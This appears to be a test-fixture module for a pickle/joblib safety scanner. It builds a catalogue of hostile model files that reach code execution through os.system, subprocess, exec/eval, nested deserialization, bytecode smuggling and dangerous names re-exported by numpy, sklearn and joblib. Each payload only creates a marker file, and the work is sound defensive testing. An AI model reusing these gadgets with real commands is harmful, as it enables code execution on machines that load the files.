@@ -1,0 +1,1760 @@
+"""The attack corpus: hostile pickle/joblib files, each built by hand or by the real pickler.
+
+Every entry of :data:`ATTACKS` is a function ``(marker: Path) -> bytes``. The bytes it returns
+are a model file that, *if it were ever loaded* by ``pickle.loads`` or ``joblib.load`` (or, for a
+few, used after loading), runs attacker code that creates the file ``marker``: so "the marker is
+absent" proves that no code ran. :data:`INFO` says, for each attack, its category, how it fires
+and whether it is a resource bomb. Entries whose ``fires`` is ``"never"`` are refusals of
+stream features that have no business in a model file (unregistered EXT codes, persistent ids,
+confusable names): they run nothing by themselves but must still be refused.
+
+:data:`BENIGN` holds the opposite cases, files that *look* hostile to a naive scanner (a
+malicious pickle stored as bytes inside a legitimate pickle, a uint8 array whose raw bytes spell
+one) but are data, never code: they must scan safe and load.
+
+NEVER unpickle any of these bytes in a process you care about. The tests only scan them, feed
+them to safeload's own loader, and (for the sanity check that they are real) load them with
+plain pickle/joblib in a throwaway subprocess.
+"""
+
+from __future__ import annotations
+
+import bz2
+import functools
+import gzip
+import importlib
+import io
+import lzma
+import marshal
+import pickle
+import shlex
+import shutil
+import struct
+import sys
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import joblib
+import numpy as np
+
+Builder = Callable[[Path], bytes]
+
+# --- the opcode builder ---------------------------------------------------------------------
+# Each helper returns the bytes of one opcode (with its argument); attacks concatenate them.
+
+MARK = b"("
+STOP = b"."
+POP = b"0"
+POP_MARK = b"1"
+DUP = b"2"
+NONE = b"N"
+NEWTRUE = b"\x88"
+NEWFALSE = b"\x89"
+TUPLE = b"t"
+TUPLE1 = b"\x85"
+TUPLE2 = b"\x86"
+TUPLE3 = b"\x87"
+EMPTY_TUPLE = b")"
+EMPTY_LIST = b"]"
+EMPTY_DICT = b"}"
+LIST = b"l"
+DICT = b"d"
+APPEND = b"a"
+APPENDS = b"e"
+SETITEM = b"s"
+SETITEMS = b"u"
+REDUCE = b"R"
+BUILD = b"b"
+INST_OP = b"i"
+OBJ = b"o"
+NEWOBJ = b"\x81"
+NEWOBJ_EX = b"\x92"
+STACK_GLOBAL = b"\x93"
+MEMOIZE = b"\x94"
+BINPERSID = b"Q"
+
+
+def proto(n: int) -> bytes:
+    """PROTO n (protocol 2+ header)."""
+    return b"\x80" + bytes([n])
+
+
+def frame(payload: bytes) -> bytes:
+    """FRAME around ``payload`` (protocol 4+)."""
+    return b"\x95" + struct.pack("<Q", len(payload)) + payload
+
+
+def global_op(module: str, name: str) -> bytes:
+    """GLOBAL: newline-terminated module and name (protocol 0)."""
+    return b"c" + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"
+
+
+def inst(module: str, name: str) -> bytes:
+    """INST: like GLOBAL, then calls the class with the args down to the last MARK."""
+    return INST_OP + module.encode("utf-8") + b"\n" + name.encode("utf-8") + b"\n"
+
+
+def unicode0(text: str) -> bytes:
+    """UNICODE (protocol 0): raw-unicode-escape, newline-terminated, as pickle writes it."""
+    escaped = text.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
+    escaped = escaped.replace("\r", "\\u000d").replace("\x1a", "\\u001a")
+    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"
+
+
+def string0(escaped: str) -> bytes:
+    """STRING (protocol 0): a quoted, backslash-escaped literal, decoded to str on load."""
+    return b"S'" + escaped.encode("ascii") + b"'\n"
+
+
+def short_binstring(text: str) -> bytes:
+    """SHORT_BINSTRING: py2 str, decoded (ASCII) to a Python 3 str on load."""
+    data = text.encode("ascii")
+    return b"U" + bytes([len(data)]) + data
+
+
+def binunicode(text: str) -> bytes:
+    """BINUNICODE (protocol 1)."""
+    data = text.encode("utf-8")
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def short_binunicode(text: str) -> bytes:
+    """SHORT_BINUNICODE (protocol 4)."""
+    data = text.encode("utf-8")
+    if len(data) > 255:
+        return binunicode(text)
+    return b"\x8c" + bytes([len(data)]) + data
+
+
+def binunicode8(text: str) -> bytes:
+    """BINUNICODE8 (protocol 4)."""
+    data = text.encode("utf-8")
+    return b"\x8d" + struct.pack("<Q", len(data)) + data
+
+
+def binbytes(data: bytes) -> bytes:
+    """BINBYTES (protocol 3)."""
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def binint(n: int) -> bytes:
+    """The shortest binary int opcode for ``n`` (BININT1/BININT2/BININT, else INT)."""
+    if 0 <= n < 256:
+        return b"K" + bytes([n])
+    if 0 <= n < 65536:
+        return b"M" + struct.pack("<H", n)
+    if -(2**31) <= n < 2**31:
+        return b"J" + struct.pack("<i", n)
+    return b"I" + str(n).encode("ascii") + b"\n"
+
+
+def put(i: int) -> bytes:
+    """PUT (text memo index)."""
+    return b"p" + str(i).encode("ascii") + b"\n"
+
+
+def get(i: int) -> bytes:
+    """GET (text memo index)."""
+    return b"g" + str(i).encode("ascii") + b"\n"
+
+
+def binput(i: int) -> bytes:
+    """BINPUT (1-byte memo index)."""
+    return b"q" + bytes([i])
+
+
+def binget(i: int) -> bytes:
+    """BINGET (1-byte memo index)."""
+    return b"h" + bytes([i])
+
+
+def long_binput(i: int) -> bytes:
+    """LONG_BINPUT (4-byte memo index)."""
+    return b"r" + struct.pack("<I", i)
+
+
+def long_binget(i: int) -> bytes:
+    """LONG_BINGET (4-byte memo index)."""
+    return b"j" + struct.pack("<I", i)
+
+
+def ext1(code: int) -> bytes:
+    """EXT1: the global registered under ``code`` in copyreg's extension registry."""
+    return b"\x82" + bytes([code])
+
+
+def ext2(code: int) -> bytes:
+    """EXT2."""
+    return b"\x83" + struct.pack("<H", code)
+
+
+def ext4(code: int) -> bytes:
+    """EXT4."""
+    return b"\x84" + struct.pack("<i", code)
+
+
+def s(text: str, protocol: int) -> bytes:
+    """A str literal with the opcode a real pickler would use at ``protocol``."""
+    if protocol < 1:
+        return unicode0(text)
+    if protocol < 4:
+        return binunicode(text)
+    return short_binunicode(text)
+
+
+def g(module: str, name: str, protocol: int) -> bytes:
+    """A global reference: GLOBAL below protocol 4, memoised STACK_GLOBAL from 4 on."""
+    if protocol < 4:
+        return global_op(module, name)
+    return short_binunicode(module) + MEMOIZE + short_binunicode(name) + MEMOIZE + STACK_GLOBAL
+
+
+def tup(*items: bytes) -> bytes:
+    """A tuple of the items (MARK ... TUPLE works at every protocol)."""
+    return MARK + b"".join(items) + TUPLE
+
+
+def lst(*items: bytes, protocol: int = 2) -> bytes:
+    """A list of the items."""
+    if protocol < 1:
+        return MARK + b"".join(items) + LIST
+    return EMPTY_LIST + MARK + b"".join(items) + APPENDS
+
+
+def dct(*pairs: tuple[bytes, bytes], protocol: int = 2) -> bytes:
+    """A dict of the (key, value) pairs."""
+    body = b"".join(k + v for k, v in pairs)
+    if protocol < 1:
+        return MARK + body + DICT
+    return EMPTY_DICT + MARK + body + SETITEMS
+
+
+def call(fn: bytes, *args: bytes) -> bytes:
+    """REDUCE: call whatever ``fn`` pushed with the given positional args."""
+    return fn + tup(*args) + REDUCE
+
+
+def lit(value: Any, protocol: int = 4) -> bytes:
+    """Opcodes for a plain literal: None, bool, int, str, bytes, tuple, list."""
+    if value is None:
+        return NONE
+    if value is True:
+        return NEWTRUE
+    if value is False:
+        return NEWFALSE
+    if isinstance(value, int):
+        return binint(value)
+    if isinstance(value, str):
+        return s(value, protocol)
+    if isinstance(value, bytes):
+        return binbytes(value)
+    if isinstance(value, tuple):
+        return tup(*(lit(v, protocol) for v in value))
+    if isinstance(value, list):
+        return lst(*(lit(v, protocol) for v in value), protocol=protocol)
+    raise TypeError(f"no literal opcode for {type(value).__name__}")
+
+
+def wrap(body: bytes, protocol: int) -> bytes:
+    """A whole pickle: PROTO header (protocol 2+), the body, STOP."""
+    return (proto(protocol) if protocol >= 2 else b"") + body + STOP
+
+
+class _Reduce:
+    """Pickles (with the real pickler) as a call of ``func(*args)``."""
+
+    def __init__(self, func: Any, args: tuple[Any, ...]) -> None:
+        self.func = func
+        self.args = args
+
+    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
+        return (self.func, self.args)
+
+
+def joblib_bytes(obj: Any, compress: Any = 0) -> bytes:
+    """What ``joblib.dump(obj, f, compress=compress)`` writes."""
+    buffer = io.BytesIO()
+    joblib.dump(obj, buffer, compress=compress)
+    return buffer.getvalue()
+
+
+def reexported(module: str, dotted: str) -> tuple[str, str]:
+    """Check, by importing and walking attributes, that ``module.dotted`` really exists."""
+    obj: Any = importlib.import_module(module)
+    for part in dotted.split("."):
+        if not hasattr(obj, part):
+            raise LookupError(f"{module}.{dotted} does not exist in this environment")
+        obj = getattr(obj, part)
+    return module, dotted
+
+
+# --- payload helpers ------------------------------------------------------------------------
+
+
+def shell_cmd(marker: Path) -> str:
+    """A shell command that creates the marker."""
+    return "touch " + shlex.quote(str(marker))
+
+
+def py_src(marker: Path) -> str:
+    """Python source (statement and expression) that creates the marker."""
+    return f"open({str(marker)!r}, 'w').close()"
+
+
+def touch_argv(marker: Path) -> bytes:
+    """The list ``['touch', marker]`` for subprocess-style callables (protocol 2+)."""
+    return lst(s("touch", 2), s(str(marker), 2))
+
+
+def open_call(marker: Path, protocol: int) -> bytes:
+    """``open(marker, 'w')`` through builtins.open, as opcodes."""
+    return call(g("builtins", "open", protocol), s(str(marker), protocol), s("w", protocol))
+
+
+def inner_pickle(marker: Path, protocol: int = 2) -> bytes:
+    """A complete malicious pickle, for nesting inside another stream."""
+    return pickle.dumps(_Reduce(open, (str(marker), "w")), protocol=protocol)
+
+
+# --- registration ---------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class AttackInfo:
+    """What an attack is and how it fires.
+
+    ``fires``: ``"pickle"`` (``pickle.loads`` and ``joblib.load`` both run it), ``"joblib"``
+    (only joblib's reader runs it, given the file's path), ``"use"`` (runs when the loaded model
+    is used), ``"async"`` (starts a process that creates the marker a moment later),
+    ``"interactive"`` (runs once a user continues a debugger), ``"multi-load"`` (runs in a
+    reader that loads pickles until EOF), ``"sidecar"`` (runs if a companion file the attacker
+    also controls is present), ``"never"`` (a refusal of a stream feature; nothing runs).
+    ``second_wall_skip``: why the restricted unpickler alone cannot be expected to stop it
+    (empty: it must). ``isolate``: a memory-corruption attack, which may crash the interpreter
+    that lets it through, so it is only ever fed to a loader in a subprocess.
+    """
+
+    category: str
+    fires: str
+    summary: str
+    bomb: bool = False
+    second_wall_skip: str = ""
+    isolate: bool = False  # may crash the interpreter if it gets through: test in a subprocess
+
+
+ATTACKS: dict[str, Builder] = {}
+INFO: dict[str, AttackInfo] = {}
+BENIGN: dict[str, Builder] = {}
+BENIGN_EXTRA_TYPES: dict[str, tuple[str, ...]] = {}
+
+
+def register(
+    name: str,
+    builder: Builder,
+    category: str,
+    fires: str,
+    summary: str,
+    *,
+    bomb: bool = False,
+    second_wall_skip: str = "",
+    isolate: bool = False,
+) -> None:
+    """Add one attack (names are unique)."""
+    if name in ATTACKS:
+        raise ValueError(f"duplicate attack name {name}")
+    ATTACKS[name] = builder
+    INFO[name] = AttackInfo(category, fires, summary, bomb, second_wall_skip, isolate)
+
+
+def attack(
+    category: str,
+    fires: str = "pickle",
+    *,
+    bomb: bool = False,
+    second_wall_skip: str = "",
+    isolate: bool = False,
+) -> Callable[[Builder], Builder]:
+    """Register the decorated builder under its function name; its docstring is the summary."""
+
+    def decorate(fn: Builder) -> Builder:
+        register(
+            fn.__name__,
+            fn,
+            category,
+            fires,
+            (fn.__doc__ or "").strip().splitlines()[0],
+            bomb=bomb,
+            second_wall_skip=second_wall_skip,
+            isolate=isolate,
+        )
+        return fn
+
+    return decorate
+
+
+def benign(*extra_types: str) -> Callable[[Builder], Builder]:
+    """Register a benign case and the exact names (beyond the default policy) it needs."""
+
+    def decorate(fn: Builder) -> Builder:
+        BENIGN[fn.__name__] = fn
+        BENIGN_EXTRA_TYPES[fn.__name__] = extra_types
+        return fn
+
+    return decorate
+
+
+# === 1. direct callables (stdlib exec/OS gadgets), across protocols 0..5 ======================
+
+
+def _os_system_pickler(protocol: int) -> Builder:
+    def build(marker: Path) -> bytes:
+        # os.system pickles as posix.system: this is exactly what the real pickler writes.
+        import os
+
+        return pickle.dumps(_Reduce(os.system, (shell_cmd(marker),)), protocol=protocol)
+
+    return build
+
+
+for _p in range(6):
+    register(
+        f"os_system_pickler_p{_p}",
+        _os_system_pickler(_p),
+        "direct",
+        "pickle",
+        f"os.system via __reduce__, written by the real pickler at protocol {_p}",
+    )
+
+
+def _builtins_open(protocol: int) -> Builder:
+    def build(marker: Path) -> bytes:
+        return wrap(open_call(marker, protocol) + POP + NONE, protocol)
+
+    return build
+
+
+for _p in range(6):
+    register(
+        f"builtins_open_p{_p}",
+        _builtins_open(_p),
+        "direct",
+        "pickle",
+        f"builtins.open(marker, 'w'), hand-built with protocol-{_p} opcodes",
+    )
+
+
+@attack("direct")
+def os_system_global_p0(marker: Path) -> bytes:
+    """GLOBAL 'os system' (the os spelling, not posix) at protocol 0."""
+    return wrap(call(global_op("os", "system"), unicode0(shell_cmd(marker))), 0)
+
+
+@attack("direct")
+def posix_system_p1(marker: Path) -> bytes:
+    """posix.system with protocol-1 opcodes (BINUNICODE)."""
+    return wrap(call(global_op("posix", "system"), binunicode(shell_cmd(marker))), 1)
+
+
+@attack("direct", "async")
+def subprocess_popen_p2(marker: Path) -> bytes:
+    """subprocess.Popen(['touch', marker])."""
+    return wrap(call(g("subprocess", "Popen", 2), touch_argv(marker)), 2)
+
+
+@attack("direct")
+def subprocess_check_call_p3(marker: Path) -> bytes:
+    """subprocess.check_call(['touch', marker])."""
+    return wrap(call(g("subprocess", "check_call", 3), touch_argv(marker)), 3)
+
+
+@attack("direct")
+def subprocess_getoutput_p1(marker: Path) -> bytes:
+    """subprocess.getoutput(shell command)."""
+    return wrap(call(g("subprocess", "getoutput", 1), s(shell_cmd(marker), 1)), 1)
+
+
+@attack("direct")
+def os_popen_p4(marker: Path) -> bytes:
+    """os.popen(cmd).read(): the call runs the shell, read waits for it."""
+    pipe = call(g("os", "popen", 4), s(shell_cmd(marker), 4))
+    return wrap(call(g("builtins", "getattr", 4), pipe, s("read", 4)) + EMPTY_TUPLE + REDUCE, 4)
+
+
+@attack("direct")
+def os_spawnv_p5(marker: Path) -> bytes:
+    """os.spawnv(P_WAIT, touch, ['touch', marker])."""
+    touch = shutil.which("touch") or "/usr/bin/touch"
+    return wrap(call(g("os", "spawnv", 5), binint(0), s(touch, 5), touch_argv(marker)), 5)
+
+
+@attack("direct")
+def builtins_exec_p4(marker: Path) -> bytes:
+    """builtins.exec(source)."""
+    return wrap(call(g("builtins", "exec", 4), s(py_src(marker), 4)), 4)
+
+
+@attack("direct")
+def builtins_eval_p5(marker: Path) -> bytes:
+    """builtins.eval(expression)."""
+    return wrap(call(g("builtins", "eval", 5), s(py_src(marker), 5)), 5)
+
+
+@attack("direct")
+def builtins_compile_exec_p2(marker: Path) -> bytes:
+    """builtins.exec(builtins.compile(source, '<m>', 'exec'))."""
+    code = call(g("builtins", "compile", 2), s(py_src(marker), 2), s("<m>", 2), s("exec", 2))
+    return wrap(call(g("builtins", "exec", 2), code), 2)
+
+
+@attack("direct")
+def builtins_import_getattr_p3(marker: Path) -> bytes:
+    """builtins.getattr(builtins.__import__('os'), 'system')(cmd)."""
+    os_mod = call(g("builtins", "__import__", 3), s("os", 3))
+    system = call(g("builtins", "getattr", 3), os_mod, s("system", 3))
+    return wrap(call(system, s(shell_cmd(marker), 3)), 3)
+
+
+@attack("direct")
+def builtins_getattr_chain_p2(marker: Path) -> bytes:
+    """getattr(getattr(getattr(__import__('os'), 'path'), 'os'), 'system')(cmd)."""
+    ga = g("builtins", "getattr", 2)
+    os_mod = call(g("builtins", "__import__", 2), s("os", 2))
+    path_mod = call(ga, os_mod, s("path", 2))
+    os_again = call(ga, path_mod, s("os", 2))
+    return wrap(call(call(ga, os_again, s("system", 2)), s(shell_cmd(marker), 2)), 2)
+
+
+@attack("direct")
+def importlib_import_module_getattr_p4(marker: Path) -> bytes:
+    """getattr(importlib.import_module('subprocess'), 'check_call')(['touch', marker])."""
+    mod = call(g("importlib", "import_module", 4), s("subprocess", 4))
+    check_call = call(g("builtins", "getattr", 4), mod, s("check_call", 4))
+    return wrap(call(check_call, touch_argv(marker)), 4)
+
+
+@attack("direct", "async")
+def pty_spawn_p2(marker: Path) -> bytes:
+    """pty.spawn(['touch', marker])."""
+    return wrap(call(g("pty", "spawn", 2), touch_argv(marker)), 2)
+
+
+@attack("direct")
+def runpy_run_code_p4(marker: Path) -> bytes:
+    """runpy._run_code(source, {}): exec of a string through a private runpy helper."""
+    return wrap(call(g("runpy", "_run_code", 4), s(py_src(marker), 4), EMPTY_DICT), 4)
+
+
+@attack("direct")
+def code_interactive_interpreter_p4(marker: Path) -> bytes:
+    """code.InteractiveInterpreter.runsource(InteractiveInterpreter(), source), dotted name."""
+    interp = call(g("code", "InteractiveInterpreter", 4))
+    run = g("code", "InteractiveInterpreter.runsource", 4)
+    return wrap(call(run, interp, s(py_src(marker), 4)), 4)
+
+
+@attack("direct")
+def timeit_timeit_p3(marker: Path) -> bytes:
+    """timeit.timeit(source, 'pass', time.perf_counter, 1)."""
+    timer = g("time", "perf_counter", 3)
+    return wrap(
+        call(g("timeit", "timeit", 3), s(py_src(marker), 3), s("pass", 3), timer, binint(1)), 3
+    )
+
+
+@attack("direct")
+def cprofile_run_p2(marker: Path) -> bytes:
+    """cProfile.run(source): exec under the profiler."""
+    return wrap(call(g("cProfile", "run", 2), s(py_src(marker), 2)), 2)
+
+
+@attack("direct")
+def bdb_run_dotted_p4(marker: Path) -> bytes:
+    """bdb.Bdb.run(Bdb(), source): exec under a non-interactive debugger base class."""
+    return wrap(call(g("bdb", "Bdb.run", 4), call(g("bdb", "Bdb", 4)), s(py_src(marker), 4)), 4)
+
+
+@attack("direct", "interactive")
+def pdb_run_p0(marker: Path) -> bytes:
+    """pdb.run(source): exec under pdb (runs as soon as the user types 'c')."""
+    return wrap(call(global_op("pdb", "run"), unicode0(py_src(marker))), 0)
+
+
+# === 2. dangerous names re-exported by allowlisted-looking modules ============================
+
+
+@attack("reexport")
+def reexport_numpy_testing_os_system(marker: Path) -> bytes:
+    """numpy.testing._private.utils exposes os: STACK_GLOBAL ('numpy.testing...', 'os.system')."""
+    module, name = reexported("numpy.testing._private.utils", "os.system")
+    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)
+
+
+@attack("reexport")
+def reexport_sklearn_os_system(marker: Path) -> bytes:
+    """The sklearn package itself exposes os: ('sklearn', 'os.system')."""
+    module, name = reexported("sklearn", "os.system")
+    return wrap(call(g(module, name, 4), s(shell_cmd(marker), 4)), 4)
+
+
+@attack("reexport")
+def reexport_joblib_numpy_pickle_os_system(marker: Path) -> bytes:
+    """joblib.numpy_pickle (home of NumpyArrayWrapper) exposes os."""
+    module, name = reexported("joblib.numpy_pickle", "os.system")
+    return wrap(call(g(module, name, 5), s(shell_cmd(marker), 5)), 5)
+
+
+@attack("reexport")
+def reexport_numpy_f2py_subprocess(marker: Path) -> bytes:
+    """numpy.f2py exposes subprocess: ('numpy.f2py', 'subprocess.check_call')."""
+    module, name = reexported("numpy.f2py", "subprocess.check_call")
+    return wrap(call(g(module, name, 4), touch_argv(marker)), 4)
+
+
+@attack("reexport")
+def reexport_joblib_numpy_pickle_pickle_loads(marker: Path) -> bytes:
+    """joblib.numpy_pickle exposes pickle: a nested pickle.loads through it."""
+    module, name = reexported("joblib.numpy_pickle", "pickle.loads")
+    return wrap(call(g(module, name, 4), binbytes(inner_pickle(marker))), 4)
+
+
+@attack("reexport")
+def reexport_numpy_format_pickle_loads(marker: Path) -> bytes:
+    """numpy.lib._format_impl exposes pickle (the .npy reader's own import)."""
+    module, name = reexported("numpy.lib._format_impl", "pickle.loads")
+    return wrap(call(g(module, name, 4), binbytes(inner_pickle(marker))), 4)
+
+
+@attack("reexport")
+def reexport_numpy_testing_runstring(marker: Path) -> bytes:
+    """numpy.testing._private.utils.runstring(src, {}): a numpy function that is exec()."""
+    module, name = reexported("numpy.testing._private.utils", "runstring")
+    return wrap(call(global_op(module, name), s(py_src(marker), 2), EMPTY_DICT), 2)
+
+
+@attack("reexport")
+def reexport_sklearn_testing_run_script(marker: Path) -> bytes:
+    """sklearn.utils._testing.assert_run_python_script_without_output(src): runs a script."""
+    module, name = reexported("sklearn.utils._testing", "assert_run_python_script_without_output")
+    return wrap(call(g(module, name, 3), s(py_src(marker), 3)), 3)
+
+
+@attack("reexport")
+def reexport_joblib_testing_check_subprocess_call(marker: Path) -> bytes:
+    """joblib.testing.check_subprocess_call(['touch', marker])."""
+    module, name = reexported("joblib.testing", "check_subprocess_call")
+    return wrap(call(g(module, name, 4), touch_argv(marker)), 4)
+
+
+@attack("reexport")
+def reexport_sklearn_testing_importlib(marker: Path) -> bytes:
+    """sklearn.utils._testing exposes importlib: import_module('os'), then methodcaller."""
+    module, name = reexported("sklearn.utils._testing", "importlib.import_module")
+    os_mod = call(g(module, name, 4), s("os", 4))
+    caller = call(g("operator", "methodcaller", 4), s("system", 4), s(shell_cmd(marker), 4))
+    return wrap(call(caller, os_mod), 4)
+
+
+# === 3. nested deserialization ================================================================
+
+
+@attack("nested")
+def nested_pickle_loads_p2(marker: Path) -> bytes:
+    """pickle.loads(bytes of a malicious pickle), bytes built with _codecs.encode (protocol 2)."""
+    as_text = inner_pickle(marker).decode("latin-1")
+    data = call(g("_codecs", "encode", 2), s(as_text, 2), s("latin1", 2))
+    return wrap(call(g("pickle", "loads", 2), data), 2)
+
+
+@attack("nested")
+def nested_c_pickle_loads_p3(marker: Path) -> bytes:
+    """_pickle.loads(BINBYTES)."""
+    return wrap(call(g("_pickle", "loads", 3), binbytes(inner_pickle(marker))), 3)
+
+
+@attack("nested")
+def nested_pure_pickle_loads_p4(marker: Path) -> bytes:
+    """pickle._loads (the pure-Python unpickler)."""
+    return wrap(call(g("pickle", "_loads", 4), binbytes(inner_pickle(marker))), 4)
+
+
+@attack("nested")
+def nested_unpickler_load_dotted_p4(marker: Path) -> bytes:
+    """pickle.Unpickler.load(Unpickler(io.BytesIO(b))): dotted method name."""
+    bio = call(g("io", "BytesIO", 4), binbytes(inner_pickle(marker)))
+    unpickler = call(g("pickle", "Unpickler", 4), bio)
+    return wrap(call(g("pickle", "Unpickler.load", 4), unpickler), 4)
+
+
+@attack("nested")
+def nested_joblib_load_p4(marker: Path) -> bytes:
+    """joblib.load(io.BytesIO(joblib file))."""
+    inner = joblib_bytes(_Reduce(open, (str(marker), "w")))
+    return wrap(call(g("joblib", "load", 4), call(g("io", "BytesIO", 4), binbytes(inner))), 4)
+
+
+@attack("nested")
+def nested_numpy_load_allow_pickle_p4(marker: Path) -> bytes:
+    """numpy.load(io.BytesIO(.npy of an object array), None, True): allow_pickle=True."""
+    buffer = io.BytesIO()
+    payload = np.empty(1, dtype=object)
+    payload[0] = _Reduce(open, (str(marker), "w"))
+    np.save(buffer, payload, allow_pickle=True)
+    bio = call(g("io", "BytesIO", 4), binbytes(buffer.getvalue()))
+    return wrap(call(g("numpy", "load", 4), bio, NONE, NEWTRUE), 4)
+
+
+@attack("nested")
+def nested_bytes_fromhex_p4(marker: Path) -> bytes:
+    """pickle.loads(bytes.fromhex(hex)): the payload never appears as bytes in the file."""
+    data = call(g("builtins", "bytes.fromhex", 4), s(inner_pickle(marker).hex(), 4))
+    return wrap(call(g("pickle", "loads", 4), data), 4)
+
+
+@attack("nested")
+def nested_base64_b64decode_p3(marker: Path) -> bytes:
+    """pickle.loads(base64.b64decode(text))."""
+    import base64
+
+    text = base64.b64encode(inner_pickle(marker)).decode("ascii")
+    return wrap(call(g("pickle", "loads", 3), call(g("base64", "b64decode", 3), s(text, 3))), 3)
+
+
+@attack("nested")
+def nested_zlib_decompress_p3(marker: Path) -> bytes:
+    """pickle.loads(zlib.decompress(b)): the inner stream is compressed inside the outer."""
+    inner = binbytes(zlib.compress(inner_pickle(marker)))
+    return wrap(call(g("pickle", "loads", 3), call(g("zlib", "decompress", 3), inner)), 3)
+
+
+@attack("nested")
+def nested_marshal_function_type_p4(marker: Path) -> bytes:
+    """types.FunctionType(marshal.loads(code bytes), {})(): bytecode smuggled as bytes."""
+    code = marshal.dumps(compile(py_src(marker), "<m>", "exec"))
+    fn = call(
+        g("types", "FunctionType", 4), call(g("marshal", "loads", 4), binbytes(code)), EMPTY_DICT
+    )
+    return wrap(fn + EMPTY_TUPLE + REDUCE, 4)
+
+
+# === 4. gadgets: higher-order and constructor tricks ==========================================
+
+
+@attack("gadget")
+def operator_attrgetter_reexported_os(marker: Path) -> bytes:
+    """operator.attrgetter('system')(joblib.os)(cmd): the module object from a GLOBAL."""
+    module, name = reexported("joblib", "os")
+    getter = call(g("operator", "attrgetter", 4), s("system", 4))
+    return wrap(call(call(getter, g(module, name, 4)), s(shell_cmd(marker), 4)), 4)
+
+
+@attack("gadget")
+def operator_methodcaller_sys_modules(marker: Path) -> bytes:
+    """methodcaller('system', cmd)(dict.get(sys.modules, 'os'))."""
+    os_mod = call(g("builtins", "dict.get", 4), g("sys", "modules", 4), s("os", 4))
+    caller = call(g("operator", "methodcaller", 4), s("system", 4), s(shell_cmd(marker), 4))
+    return wrap(call(caller, os_mod), 4)
+
+
+@attack("gadget")
+def functools_partial_reduce_p2(marker: Path) -> bytes:
+    """functools.partial(os.system, cmd)()."""
+    part = call(g("functools", "partial", 2), g("os", "system", 2), s(shell_cmd(marker), 2))
+    return wrap(part + EMPTY_TUPLE + REDUCE, 2)
+
+
+@attack("gadget")
+def copyreg_reconstructor_filehandler(marker: Path) -> bytes:
+    """copyreg._reconstructor(FileHandler, FileHandler, marker): base.__init__ opens the file."""
+    handler = g("logging", "FileHandler", 2)
+    return wrap(call(g("copyreg", "_reconstructor", 2), handler, handler, s(str(marker), 2)), 2)
+
+
+@attack("gadget")
+def builtins_type_init_exec(marker: Path) -> bytes:
+    """type('E', (), {'__init__': exec})(source): a builtin as __init__ is called unbound."""
+    cls = call(
+        g("builtins", "type", 4),
+        s("E", 4),
+        EMPTY_TUPLE,
+        dct((s("__init__", 4), g("builtins", "exec", 4))),
+    )
+    return wrap(call(cls, s(py_src(marker), 4)), 4)
+
+
+@attack("gadget")
+def types_codetype_function(marker: Path) -> bytes:
+    """types.FunctionType(types.CodeType(...fields...), {})(): bytecode rebuilt field by field."""
+    co = compile(py_src(marker), "<m>", "exec")
+    if sys.version_info >= (3, 11):
+        fields: tuple[Any, ...] = (
+            co.co_argcount,
+            co.co_posonlyargcount,
+            co.co_kwonlyargcount,
+            co.co_nlocals,
+            co.co_stacksize,
+            co.co_flags,
+            co.co_code,
+            co.co_consts,
+            co.co_names,
+            co.co_varnames,
+            co.co_filename,
+            co.co_name,
+            co.co_qualname,
+            co.co_firstlineno,
+            co.co_linetable,
+            co.co_exceptiontable,
+            co.co_freevars,
+            co.co_cellvars,
+        )
+    else:  # pragma: no cover - Python 3.10
+        fields = (
+            co.co_argcount,
+            co.co_posonlyargcount,
+            co.co_kwonlyargcount,
+            co.co_nlocals,
+            co.co_stacksize,
+            co.co_flags,
+            co.co_code,
+            co.co_consts,
+            co.co_names,
+            co.co_varnames,
+            co.co_filename,
+            co.co_name,
+            co.co_firstlineno,
+            co.co_linetable,
+            co.co_freevars,
+            co.co_cellvars,
+        )
+    code = call(g("types", "CodeType", 4), *(lit(f) for f in fields))
+    return wrap(call(g("types", "FunctionType", 4), code, EMPTY_DICT) + EMPTY_TUPLE + REDUCE, 4)
+
+
+@attack("gadget")
+def numpy_frompyfunc_system(marker: Path) -> bytes:
+    """numpy.frompyfunc(os.system, 1, 1)(cmd): a ufunc wrapping a dangerous callable."""
+    ufunc = call(g("numpy", "frompyfunc", 4), g("os", "system", 4), binint(1), binint(1))
+    return wrap(call(ufunc, s(shell_cmd(marker), 4)), 4)
+
+
+@attack("gadget")
+def numpy_vectorize_system(marker: Path) -> bytes:
+    """numpy.vectorize(os.system)(cmd)."""
+    vec = call(g("numpy", "vectorize", 4), g("os", "system", 4))
+    return wrap(call(vec, s(shell_cmd(marker), 4)), 4)
+
+
+@attack("gadget")
+def collections_defaultdict_factory(marker: Path) -> bytes:
+    """defaultdict(partial(os.system, cmd)), then operator.getitem on a missing key."""
+    factory = call(g("functools", "partial", 4), g("os", "system", 4), s(shell_cmd(marker), 4))
+    ddict = call(g("collections", "defaultdict", 4), factory)
+    return wrap(call(g("operator", "getitem", 4), ddict, s("missing", 4)), 4)
+
+
+@attack("gadget")
+def sklearn_function_transformer_at_load(marker: Path) -> bytes:
+    """FunctionTransformer(os.system).transform(cmd), called during unpickling."""
+    ft_module = "sklearn.preprocessing._function_transformer"
+    ft = call(g(ft_module, "FunctionTransformer", 4), g("os", "system", 4))
+    return wrap(
+        call(g(ft_module, "FunctionTransformer.transform", 4), ft, s(shell_cmd(marker), 4)), 4
+    )
+
+
+@attack("gadget", "use")
+def sklearn_function_transformer_holding_system(marker: Path) -> bytes:
+    """A real joblib Pipeline whose FunctionTransformer.func is os.system: fires on transform."""
+    import os
+
+    from sklearn.pipeline import make_pipeline
+    from sklearn.preprocessing import FunctionTransformer
+
+    del marker  # fires with whatever the victim passes to transform/predict
+    return joblib_bytes(make_pipeline(FunctionTransformer(os.system)))
+
+
+@attack("gadget")
+def numpy_random_pickle_ctor_gadget(marker: Path) -> bytes:
+    """numpy.random._pickle.__randomstate_ctor(cmd, os.system): an allowed-looking caller."""
+    ctor = g("numpy.random._pickle", "__randomstate_ctor", 4)
+    return wrap(call(ctor, s(shell_cmd(marker), 4), g("os", "system", 4)), 4)
+
+
+# === 5. opcode-level scanner evasion ==========================================================
+
+
+def _eval_tail(marker: Path) -> bytes:
